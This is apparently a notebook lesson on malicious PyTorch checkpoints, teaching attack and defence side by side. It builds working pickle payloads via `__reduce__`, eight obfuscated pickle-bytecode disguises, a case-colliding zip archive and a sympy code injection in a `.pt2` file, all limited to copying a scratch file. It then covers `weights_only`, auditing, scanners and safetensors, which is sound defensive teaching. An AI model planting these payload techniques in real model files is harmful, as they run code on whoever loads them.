# %% [markdown]
# # 06 · Files you should not trust
#
# A checkpoint from a stranger is a program from a stranger. This lesson attacks: it builds files that
# do more than load. Then it defends: it reads what a file would do before it does it.
#
# After this lesson you will be able to
#
# - show how a file runs code when it is loaded, and which settings let it,
# - say what a file would import and call, without loading it,
# - name the tools that look into files, and move weights to a format that cannot run.
#
# **Time:** 40 minutes. **Needs:** [01 state_dict anatomy](01_state_dict_anatomy.ipynb).
#
# All attacks here do one harmless thing: they copy a file inside this lesson's scratch folder. Where a
# defence holds, a cell asserts that the copy does not exist.

# %% [markdown]
# **Do you remember?** Answer first, then open.
#
# <details><summary>Which two instructions make a pickle dangerous? (01)</summary>
#
# `GLOBAL` (or `STACK_GLOBAL`) fetches anything that Python can import; `REDUCE` calls it.
# </details>
# <details><summary>A checkpoint holds <code>np.random.get_state()</code>. What does
# <code>torch.load</code> do? (02)</summary>
#
# It refuses: the array's pickle needs a function that is not on its list. `torch.save` said nothing.
# </details>
# <details><summary>Where in a <code>.pt</code> file is the list of its records? (01)</summary>
#
# At the end. A file that was cut has none.
# </details>

# %%
import contextlib
import inspect
import json
import os
import pickle
import shutil
import struct
import subprocess
import sys
import warnings
import zipfile

import torch
from torch import nn

from course_utils.anatomy import byte_map, read_archive
from course_utils.checkpoint import load_checkpoint
from course_utils.errors import DamagedCheckpointError, UnsafeCheckpointError
from course_utils.formats.pickle import read_pickle
from course_utils.lessons import lesson, plots
from course_utils.lessons.models import MLP, TiedAutoencoder
from course_utils.safety import audit, convert, load_untrusted

scratch = lesson.start("06_untrusted_files")
secret, stolen = scratch / "secret.txt", scratch / "stolen.txt"
secret.write_text("the password of the cluster")


def attack_ran():
    """Whether the secret was copied; the copy is removed, for the next attack."""
    ran = stolen.exists()
    stolen.unlink(missing_ok=True)
    return ran


# %% [markdown]
# ## 1. A file that acts
#
# Lesson 01 read a pickle as a small program with two special instructions: fetch anything Python can
# import, and call it. Any class can ask for such a call, with the method `__reduce__`.


# %%
class Payload:
    """Asks the pickle to call ``shutil.copyfile(secret, stolen)`` when it is loaded."""

    def __reduce__(self):
        return shutil.copyfile, (str(secret), str(stolen))


torch.manual_seed(0)
model = MLP(hidden=4)
hostile = scratch / "pretrained.pt"
torch.save({"model": model.state_dict(), "note": Payload()}, hostile)
print("after saving, the stolen copy is", "there" if attack_ran() else "not there")

# %% [markdown]
# **Predict.** The file is loaded as most tutorials from before 2025 do it, with
# `weights_only=False`. What do you see?
#
# <details><summary>A. An error: the note is no tensor.</summary>
#
# Without `weights_only` there is no list of what may be in the file.
# </details>
# <details><summary>B. A warning that the file ran code.</summary>
#
# There is none. To run code is how a pickle works.
# </details>
# <details><summary>C. Nothing: the weights arrive, and they are right.</summary>
#
# Right, and the secret has been copied. The payload's result simply takes the place of the note.
# </details>

# %%
loaded = torch.load(hostile, weights_only=False)
wrong = (loaded["model"]["head.bias"] != model.head.bias).sum()
print("wrong numbers in the head's bias:", int(wrong), "of", model.head.bias.numel())
print("the note is now:", loaded["note"])
print("stolen:", stolen.read_text())
assert wrong == 0 and attack_ran()

# %% [markdown]
# Here are the instructions of this file and of an honest one, in order. The attack is two of them.

# %% jupyter={"source_hidden": true}
honest = scratch / "honest.pt"
torch.save({"model": model.state_dict(), "note": "trained on digits"}, honest)

HARMLESS = {"collections OrderedDict", "torch._utils _rebuild_tensor_v2", "torch FloatStorage"}
fig, axes = plots.figure(7.5, 2.2, nrows=2, sharex=True)
for axis, path in zip(axes, (honest, hostile), strict=True):
    steps = read_archive(path).opcodes()
    kinds = {"import": [], "call": [], "the attack's import": []}
    for number, step in enumerate(steps):
        if step.name == "GLOBAL":
            own = step.argument not in HARMLESS
            kinds["the attack's import" if own else "import"].append(number)
        elif step.name == "REDUCE":
            kinds["call"].append(number)
    for color, (kind, places) in zip(
        (plots.BLUE, plots.GREY, plots.RED), kinds.items(), strict=True
    ):
        axis.vlines(places, 0, 1, color=color, lw=2.5, label=kind)
    axis.set(yticks=[])
    axis.set_ylabel(path.name, rotation=0, ha="right", va="center")
    axis.grid(visible=False)
    print(f"{path.name:13}", {kind: len(places) for kind, places in kinds.items()})
axes[1].set_xlabel("instruction of the pickle")
axes[0].legend(ncols=3, loc="lower center", bbox_to_anchor=(0.5, 1.0))
plots.show(
    fig,
    alt="Two rows of vertical marks, one mark for each import or call in the pickle of a file. The "
    "rows are alike, but the second ends with one more import, in red, followed by a call.",
    caption="An honest file imports and calls too. Only the name of the last import gives it away.",
)

# %% [markdown]
# **Try it:** let the payload call `print` with a text of yours, and load the file again.

# %% [markdown]
# ## 2. What `weights_only` allows, and how the door comes open again
#
# Since PyTorch 2.6, `torch.load` uses its own unpickler unless told otherwise: it imports nothing, and
# calls only functions on a short list.

# %%
with lesson.expect_error(pickle.UnpicklingError, match="GLOBAL shutil.copyfile"):
    torch.load(hostile)
assert not attack_ran()

# %% [markdown]
# The list is made of what tensors and containers need. Some values that look harmless are not on it.
#
# **Predict.** A `set`, a `Path`, a NumPy number, a `defaultdict`, bytes: which of them does
# `torch.load` take by default?
#
# <details><summary>A. All: none of them can do harm.</summary>
#
# It does not judge harm. It has a list of names, and what needs another name is refused.
# </details>
# <details><summary>B. The set and the bytes.</summary>
#
# Right. The others need to import a class or function that is not on the list.
# </details>
# <details><summary>C. None: only tensors, numbers and dicts.</summary>
#
# Some more containers are on it: sets, `OrderedDict`, `Counter`, `torch.Size`, dtypes, devices.
# </details>

# %%
import collections
import datetime
import pathlib

import numpy as np

values = {
    "dict, list, tuple, str, int, None": {"a": [1, (2.5, None)]},
    "set": {1, 2},
    "bytes": b"abc",
    "collections.Counter": collections.Counter("abca"),
    "torch.device, torch.dtype": [torch.device("cpu"), torch.float16],
    "pathlib.Path": pathlib.Path("data"),
    "numpy.float64": np.float64(0.5),
    "collections.defaultdict": collections.defaultdict(list),
    "datetime.date": datetime.date(2026, 1, 1),
    "a whole nn.Module": nn.Linear(2, 2),
}
rows = []
for name, value in values.items():
    torch.save(value, scratch / "value.pt")
    try:
        torch.load(scratch / "value.pt")
        answer = "loads"
    except pickle.UnpicklingError as error:
        answer = "refused: " + str(error).partition("GLOBAL ")[2].split()[0]
    rows.append((name, answer, audit(scratch / "value.pt").verdict.value))
lesson.show_table(rows, ["value", "torch.load", "audit calls it"])
assert all((answer == "loads") == (verdict == "plain data") for _, answer, verdict in rows)

# %% [markdown]
# So store plain values: `str(path)`, `float(number)`, `dict(counts)`. The other ways to make an old file
# load are the ways in which the door comes open.


# %%
def with_environment_variable(path, **options):
    os.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"] = "1"
    try:
        with warnings.catch_warnings():
            warnings.filterwarnings(
                "ignore", "Environment variable TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"
            )
            torch.load(path, **options)
    finally:
        del os.environ["TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD"]


def with_safe_globals(path):
    with torch.serialization.safe_globals([shutil.copyfile]):
        torch.load(path)


ways = {
    "torch.load(path)": torch.load,
    "torch.load(path, weights_only=False)": lambda path: torch.load(path, weights_only=False),
    "torch.load(path, pickle_module=pickle)": lambda path: torch.load(path, pickle_module=pickle),
    "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1": with_environment_variable,
    "… and torch.load(path, weights_only=True)": lambda path: with_environment_variable(
        path, weights_only=True
    ),
    "safe_globals([what the error asks for])": with_safe_globals,
    "course_utils.load_checkpoint(path)": load_checkpoint,
    "course_utils.load_untrusted(path)": load_untrusted,
}
rows = []
for way, load in ways.items():
    try:
        load(hostile)
        answer = "loaded"
    except (pickle.UnpicklingError, UnsafeCheckpointError) as error:
        answer = f"{type(error).__name__}"
    rows.append((way, answer, "stolen" if attack_ran() else "safe"))
lesson.show_table(rows, ["way to load", "what you see", "the secret"])
secrets = [secret for *_, secret in rows]
assert secrets == ["safe", *["stolen"] * 3, "safe", "stolen", "safe", "safe"]

# %% [markdown]
# The environment variable replaces the *default*. Who writes `weights_only=True` gets it, whatever the
# machine's settings are.
#
# `safe_globals` deserves a second look: torch's own error message suggests it, with the name already
# filled in. It is right for a class you know. For a file you do not know, it is "click here to allow".
#
# One more open door has no setting at all in sight:

# %%
hub = inspect.signature(torch.hub.load_state_dict_from_url)
default = hub.parameters["weights_only"].default
print(f"torch.hub.load_state_dict_from_url(url, weights_only={default}) is its default")
assert hub.parameters["weights_only"].default is False

# %% [markdown]
# And the safe unpickler is *safer*, not safe: CVE-2025-32434 (PyTorch before 2.6) and CVE-2026-24747
# (before 2.10) got past it. Keep PyTorch up to date, and look before you load.
#
# What may be allowed changes with versions, too: a list of one's own class loads with `safe_globals` under 2.14, and
# neither before (2.13) nor after it (2.15).
#
# **Try it:** add `pathlib.PosixPath` to `safe_globals` and load the file with a `Path`. What does the
# error ask for next?

# %% [markdown]
# ## 3. Look before you load
#
# To know what a program does without running it, read it and do each step on paper. `read_pickle`
# follows a pickle instruction by instruction, but where a function would be imported it puts a note
# with its name, and where one would be called, a note about the call.

# %%
paper = read_pickle(pickle.dumps({"lr": 0.1, "note": Payload()}))
call = paper.root["note"]
print("root:     ", paper.root)
print("function: ", call.function)
print("arguments:", call.arguments)
assert not attack_ran()

# %% [markdown]
# `audit` does that for every pickle in a file and compares the names with torch's list.

# %%
audit(hostile)

# %% [markdown]
# ### Disguises
#
# An attacker knows that you look. Each of these pickles hides the call in another way. Here is one as
# its instructions, with the texts shortened: the name is not written after `GLOBAL`, it is put
# together on the stack from two texts that come back from the memo.

# %%
import pickletools

memo = (
    b"X\x06\0\0\0shutilq\x01X\x08\0\0\0copyfileq\x0200h\x01h\x02\x93X\x01\0\0\0aX\x01\0\0\0b\x86R."
)
pickletools.dis(b"\x80\x04" + memo)

# %% [markdown]
# **Predict.** One pickle below is cut off before its end, so no unpickler can read it. Can it
# still do harm?
#
# <details><summary>A. No: an error is raised before anything is built.</summary>
#
# The error comes when the reader gets to the end. Until then it did what it read.
# </details>
# <details><summary>B. No: pickles are checked before they run.</summary>
#
# There is no such check, and none is possible in one pass.
# </details>
# <details><summary>C. Yes.</summary>
#
# Right. A pickle runs *while* it is read. By the time the end is missed, the call has been made.
# </details>


# %%
def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


arguments = text(str(secret)) + text(str(stolen)) + b"\x86"  # a pair
copyfile = b"cshutil\ncopyfile\n"
disguises = {
    "plain": copyfile + arguments + b"R.",
    "result thrown away": copyfile + arguments + b"R0N.",
    "name from the stack": text("shutil") + text("copyfile") + b"\x93" + arguments + b"R.",
    "name from the memo": text("shutil") + b"q\x01" + text("copyfile") + b"q\x0200h\x01h\x02\x93"
    + arguments + b"R.",
    "found with getattr": b"cbuiltins\ngetattr\ncbuiltins\n__import__\n" + text("shutil")
    + b"\x85R" + text("copyfile") + b"\x86R" + arguments + b"R.",
    "an old opcode": b"(" + text(str(secret)) + text(str(stolen)) + b"ishutil\ncopyfile\n.",
    "a pickle in a pickle": b"cpickle\nloads\nB" + struct.pack("<I", len(copyfile + arguments) + 4)
    + b"\x80\x02" + copyfile + arguments + b"R." + b"\x85R.",
    "cut off before the end": copyfile + arguments + b"R",
}  # fmt: skip


def instructions_only(instructions):
    """End a pickle that was cut off, so that its instructions can be listed."""
    return instructions if instructions.endswith(b".") else instructions + b"."


path = scratch / "disguised.pkl"
rows = []
for name, instructions in disguises.items():
    path.write_bytes(b"\x80\x04" + instructions)
    found = audit(path)
    assert not attack_ran()
    with contextlib.suppress(Exception):
        pickle.loads(path.read_bytes())
    calls = [op.name for op, *_ in pickletools.genops(instructions_only(instructions))]
    rows.append((name, found.verdict.value, "stolen" if attack_ran() else "safe", " ".join(calls)))
lesson.show_table(rows, ["disguise", "audit says", "pickle.loads: the secret is", "instructions"])
assert all(row[1:3] == ("would run code", "stolen") for row in rows)

# %% [markdown]
# ### Two readers, two files
#
# The archive around the pickle can lie too. Here is a zip file with a good `data.pkl`. Python's
# `zipfile` finds it, reads it, all is well. It also has a record `DATA.PKL`.

# %%
evil = b"\x80\x02" + disguises["plain"]
twins = scratch / "twins.pt"
with zipfile.ZipFile(twins, "w") as archive:
    archive.writestr("twins/data.pkl", pickle.dumps({"all": "well"}, protocol=2))
    archive.writestr("twins/DATA.PKL", evil)
    archive.writestr("twins/byteorder", "little")
    archive.writestr("twins/version", "3\n")
    archive.writestr("twins/.data/serialization_id", "0" * 40)

with zipfile.ZipFile(twins) as archive:
    print("Python's zipfile reads:", pickle.loads(archive.read("twins/data.pkl")))
with contextlib.suppress(Exception):
    torch.load(twins, weights_only=False)
print("torch reads the other one. Stolen:", stolen.read_text())
assert attack_ran()
audit(twins)

# %% [markdown]
# Torch's zip library looks names up without regard to case. A scanner built on another zip library
# sees another file than torch. So `audit` does not try to guess: what two programs could read in two
# ways is refused.

# %%
with lesson.expect_error(DamagedCheckpointError):
    load_untrusted(twins)
assert not attack_ran()

# %% [markdown]
# ### No pickle needed
#
# An exported program (`.pt2`, lesson 09) describes its graph in JSON. JSON runs nothing. But the sizes
# in it, such as `2*s77`, are handed to `sympy`, and its parser *evaluates them as Python*. And its
# sample inputs are a pickle: where the safe load refuses it, `torch.export.load` falls back to
# `weights_only=False` and goes on (measured with 2.6 to 2.15).

# %%


class Doubles(nn.Module):
    """Needs a symbolic size: twice the batch."""

    def forward(self, images):
        return images.reshape(2 * images.shape[0], -1)


batch = torch.export.Dim("batch", min=2, max=9)
program = torch.export.export(Doubles(), (torch.ones(4, 6),), dynamic_shapes={"images": {0: batch}})
torch.export.save(program, scratch / "program.pt2")

code = f"(__import__('shutil').copyfile('{secret}', '{stolen}') and 2)"
with (
    zipfile.ZipFile(scratch / "program.pt2") as source,
    zipfile.ZipFile(scratch / "evil.pt2", "w") as target,
):
    for name in source.namelist():
        content = source.read(name)
        target.writestr(name, content.replace(b"Integer(2)", code.encode()))

for name in ("program.pt2", "evil.pt2"):
    found = audit(scratch / name)
    lesson.print_folded(f"{name:11} {found.verdict.value}:\n    {found.findings[0].reason}")
loaded = torch.export.load(scratch / "evil.pt2").module()
print("torch.export.load. Stolen:", stolen.read_text())
print("and the program works:", tuple(loaded(torch.ones(3, 6)).shape))
assert attack_ran()

# %% [markdown]
# **Try it:** write a ninth disguise, for example with `functools.partial`, and let `audit` judge it.

# %% [markdown]
# ## 4. Other tools that look, and what they cannot see
#
# PyTorch has a reader of its own. It lists the names in a `.pt` file that are not on the list of
# `weights_only`:

# %%
from torch.serialization import get_unsafe_globals_in_checkpoint

old = scratch / "old.pt"
torch.save({"model": model.state_dict(), "lr": np.float64(0.1), "data": pathlib.Path("data")}, old)
for path in (honest, old, hostile):
    print(f"{path.name:14}", sorted(get_unsafe_globals_in_checkpoint(path)))
assert get_unsafe_globals_in_checkpoint(hostile) == ["shutil.copyfile"]
assert not attack_ran()

# %% [markdown]
# It gives names, not a verdict: it is up to you to know what `shutil.copyfile` does. And it reads only
# instructions that `torch.save` itself writes. Here are the disguises again, each as the `data.pkl` of
# an archive:

# %%
rows = []
for name, instructions in disguises.items():
    path = scratch / "disguised.pt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("disguised/data.pkl", b"\x80\x02" + instructions)
        for record, content in (("byteorder", "little"), ("version", "3\n")):
            archive.writestr(f"disguised/{record}", content)
        archive.writestr("disguised/.data/serialization_id", "0" * 40)
    try:
        answer = ", ".join(sorted(get_unsafe_globals_in_checkpoint(path)))
    except (pickle.UnpicklingError, EOFError) as error:
        answer = f"{type(error).__name__} {error}"
    rows.append((name, answer, audit(path).verdict.value))
    assert not attack_ran()
lesson.show_table(rows, ["disguise", "get_unsafe_globals_in_checkpoint", "audit"])
assert all(answer and verdict == "would run code" for _, answer, verdict in rows)

# %% [markdown]
# An error there is an answer, too: torch's weights-only loader stumbles at the same instruction. Two
# programs of others read any pickle: `picklescan`, which Hugging Face runs on every file that is
# uploaded, and `fickling`, which writes a pickle as Python code. picklescan 1.0.5 and fickling 0.1.12 call
# all eight dangerous (tried when this lesson was written; the course does not install them). Both
# work with lists of bad names, and such a list is never complete: what they pass is not proven safe.
#
# What no scanner of checkpoints sees is code that lies **beside** the weights. With
# `trust_remote_code=True`, Hugging Face's libraries import Python files from the model's repository.
# The weights may be safetensors and as harmless as can be: the code runs before they are read. The
# same holds for `torch.hub.load`, which runs the repository's `hubconf.py`.
#
# And an honest file may be damaged. Lesson 07 flips one bit of it: that is what checksums are for. Python's
# `zipfile` compares a record's when it reads it: `archive.read(name)` raises `zipfile.BadZipFile` where the
# bytes have changed, as `ZipFile(path)` does where it finds no directory. A checksum stands against
# accidents, not against attackers, who compute a new one. To know that a
# file is the one its author published, compare its SHA-256 with one from a place you trust.
#
# **Try it:** `pip install fickling` and let it write `disguised.pkl` as Python.

# %% [markdown]
# ## 5. A format that cannot run: safetensors
#
# If a file needs no program, do not ship one. A safetensors file is 8 bytes of length, a JSON header,
# and the numbers. That is all, so we can write one by hand.

# %%
weight, bias = torch.tensor([[1.0, 2.0], [3.0, 4.0]]), torch.tensor([0.5, -0.5])
header = {
    "weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
    "bias": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
}
encoded = json.dumps(header).encode()
by_hand = scratch / "by_hand.safetensors"
by_hand.write_bytes(
    struct.pack("<Q", len(encoded)) + encoded + weight.numpy().tobytes() + bias.numpy().tobytes()
)

from safetensors.torch import load_file, save_file

print(load_file(by_hand))
assert torch.equal(load_file(by_hand)["weight"], weight)

# %% [markdown]
# The header is data, so a reader can check all of it: offsets in order, no gaps, no overlaps, sizes
# that fit. Nothing is left to interpret.

# %%
from course_utils.formats.safetensors import read_header

lesson.show_source(read_header)

# %% [markdown]
# The price: tensors and strings only, and no two tensors may share memory. Tied weights fail.

# %%
tied = TiedAutoencoder(code=4)
with lesson.expect_error(RuntimeError, match="share memory"):
    save_file(tied.state_dict(), scratch / "tied.safetensors")

# %% [markdown]
# `convert` writes such a tensor once and notes its second name in the metadata, as safetensors' own
# `save_model` does. It reads the checkpoint without running it, so it can even rescue the weights of
# the hostile file from the first section.

# %%
torch.save({"model": tied.state_dict(), "epoch": 3, "lr": 0.1}, scratch / "tied.pt")
print(convert(scratch / "tied.pt", scratch / "tied.safetensors", overwrite=True))
print()
print(convert(hostile, scratch / "rescued.safetensors", overwrite=True))
rescued = load_file(scratch / "rescued.safetensors")
print("rescued:", list(rescued))
assert not attack_ran()

# %% [markdown]
# **Try it:** make the header say `"shape": [3, 2]` for the weight. Who refuses it, and with what words?

# %% jupyter={"source_hidden": true}
sizes = {}
for name in ("tied.pt", "tied.safetensors"):
    path = scratch / name
    spans = byte_map(read_archive(path))
    numbers = sum(span.stop - span.start for span in spans if span.kind == "tensor")
    sizes[name] = (numbers, path.stat().st_size - numbers)

fig, axis = plots.figure(7.5, 1.9)
axis.barh(
    list(sizes), [numbers for numbers, _ in sizes.values()], color=plots.BLUE, label="numbers"
)
axis.barh(
    list(sizes),
    [rest for _, rest in sizes.values()],
    left=[numbers for numbers, _ in sizes.values()],
    color=plots.ORANGE,
    label="all the rest",
)
axis.set(xlabel="bytes in the file")
axis.legend(ncols=2, loc="lower center", bbox_to_anchor=(0.5, 1.0))
plots.show(
    fig,
    alt="Two stacked bars. Both files hold the same number of bytes of numbers; the rest, the pickle "
    "and the zip's records, is several times larger in the .pt file than the header of the other.",
    caption="The same numbers twice. The rest is a program in an archive here, and a list of names there.",
)
lesson.show_table(
    [(name, f"{numbers:,}", f"{rest:,}") for name, (numbers, rest) in sizes.items()],
    ["file", "bytes of numbers", "bytes of all the rest"],
)

# %% [markdown]
# ## 6. In practice
#
# `load_untrusted` puts the lesson into one call: audit, compare every checksum, build plain
# containers and tensors without an unpickler (the rest of what is allowed with torch's weights-only
# one), and drop what is more than plain data.

# %%
lesson.show_source(load_untrusted)

# %%
state = load_untrusted(honest)
print("honest file:", state["note"], "·", len(state["model"]), "tensors")
with lesson.expect_error(UnsafeCheckpointError):
    load_untrusted(hostile)
assert not attack_ran()

# %% [markdown]
# The same from the command line, for scripts: the exit status says whether to go on. The command `ckpt`
# can do more: `inspect`, `verify`, `diff A B`, `doctor`, `convert`, `strip-prefix`, `slim`. In your copy
# of the course it is there in JupyterLab's terminal, and in a cell as `!ckpt audit FILE`; elsewhere
# `python -m course_utils` is the same.

# %%
for path in (honest, hostile):
    command = [sys.executable, "-m", "course_utils", "audit", path.as_posix()]
    done = subprocess.run(command, capture_output=True, text=True)
    said = f"{done.stdout}exit status {done.returncode}"
    lesson.print_folded(f"$ ckpt audit {path.as_posix()}\n{said}\n\n")
assert not attack_ran()

# %% [markdown]
# **Try it:** open JupyterLab's terminal (File, New, Terminal) and let `ckpt inspect` list a file of yours.

# %% [markdown]
# ## In short
#
# | danger | defence |
# |---|---|
# | loading runs code | leave `weights_only` alone; never `pickle_module`, never the environment variable |
# | the error asks for `safe_globals` | only for classes you know; else `audit`, or convert |
# | a pickle in disguise | read all of it, not only its names; it runs before it ends |
# | an archive that two programs read differently | refuse it |
# | `.pt2`, TorchScript | they are programs: audit, or build them yourself |
# | code beside the weights | no `trust_remote_code`, no `torch.hub.load`, or read that code first |
# | a flipped bit | compare the checksums: `load_checkpoint`, `ckpt verify` (lesson 07) |
# | a file that was exchanged | compare its SHA-256 with a published one |
# | you publish weights | safetensors |
#
# **Your turn:** [exercises for this lesson](exercises/06_untrusted_files.ipynb).
#
# Further reading: [`torch.load`](https://docs.pytorch.org/docs/stable/generated/torch.load.html) and its
# [notes on weights_only](https://docs.pytorch.org/docs/stable/notes/serialization.html);
# [the safetensors format](https://huggingface.co/docs/safetensors); Slaviero,
# [Sour Pickles](https://media.blackhat.com/bh-us-11/Slaviero/BH_US_11_Slaviero_Sour_Pickles_WP.pdf)
# (Black Hat 2011), still the best text on what a pickle can do. What torch lets pass was seen with
# PyTorch 2.14.

# %%
lesson.finish(scratch)
